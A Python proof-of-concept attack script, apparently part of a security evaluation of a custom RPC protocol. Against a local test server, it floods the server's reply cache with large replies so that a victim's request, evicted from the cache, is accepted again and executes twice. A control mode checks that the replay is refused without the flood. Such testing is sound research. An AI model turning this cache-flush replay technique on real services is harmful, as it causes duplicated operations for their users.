"""ATTACK: as attack_tomb_expiry.py, but without waiting for the reply cache's time: a caller of ANY
key makes calls with large replies until the reply cache's byte budget (64 MiB) pushes the victim's
call out; the forgotten session's tombstone goes with its last call, and the victim's resume naming
its current session starts a new line, in which its resend runs again (a few seconds after the call).

Usage: python attack_tomb_cacheflush.py PORT [NBIG] [nosilence]  (fresh count_server.py on PORT; ~10 s)
  NBIG (default 1300): calls of 60000-byte replies (count_server's function 5) by the flusher.
  nosilence: A is NOT forgotten (no insider flood): control, the resend must be refused.

Who: on-path attacker (drops ~3 s of the victim's retransmissions under A) + same-key holder (or
ordinary load of that key past its quota: forgets A) + any caller with large replies (key 2 here)."""
import sys, os, time, socket
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *

PORT = int(sys.argv[1])
NBIG = int(sys.argv[2]) if len(sys.argv) > 2 and sys.argv[2].isdigit() else 1300
CONTROL = "nosilence" in sys.argv
ins = Insider(PORT)
if not CONTROL:
    ins.flood(2200)
    print("insider holds", len(ins.mine), "sessions;", stats(PORT))
fl = Client(PORT, key=load_client(os.path.join(AD, "client2.json")))
fl.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
FS = fl.handshake()
v = Client(PORT); A = v.handshake(); X = os.urandom(32); rid = int.from_bytes(os.urandom(5), "big")
v.send(v.req_dgrams(1, rid, X)[0]); print("X under A:", ans(v, A), "(reply dropped on the path)"); t0 = time.time()
if not CONTROL:
    ins.touch_all()
    while time.time() - t0 < 2.2: time.sleep(0.05)
    for k in range(6):
        ins.flood(150, keep=False)
        st = stats(PORT); print(f"+{time.time()-t0:.2f}s INIT batch {k}:", st)
        if st["tombstones"]: break
frid = int.from_bytes(os.urandom(5), "big")
for i in range(NBIG):              # 60000-byte replies; we never read them (the kernel drops them)
    frid += 1; fl.send(FS.seal(T_REQ, 5, frid, 0, 1, 8, 0, (60000).to_bytes(4, "little") + os.urandom(4)))
    if i % 16 == 15: time.sleep(0.002)
time.sleep(0.3)
print(f"+{time.time()-t0:.2f}s after {NBIG} large replies ({NBIG*60000/2**20:.0f} MiB):", stats(PORT))
v.send(v.req_dgrams(1, rid, X)[0]); a = ans(v, A, 0.4)
print(f"+{time.time()-t0:.2f}s victim's retransmission of X under A arrives:", a)
if "NO_SESSION" in a:
    B = v.handshake(prev=A)
    v.send(v.req_dgrams(1, rid, X, sess=B)[0]); print("victim resumed (prev=A), X resent under B:", ans(v, B, 0.4))
print("after:", stats(PORT))
n = runs(X); print("X ran", len(n), "times", "<-- RAN TWICE" if len(n) > 1 else "")
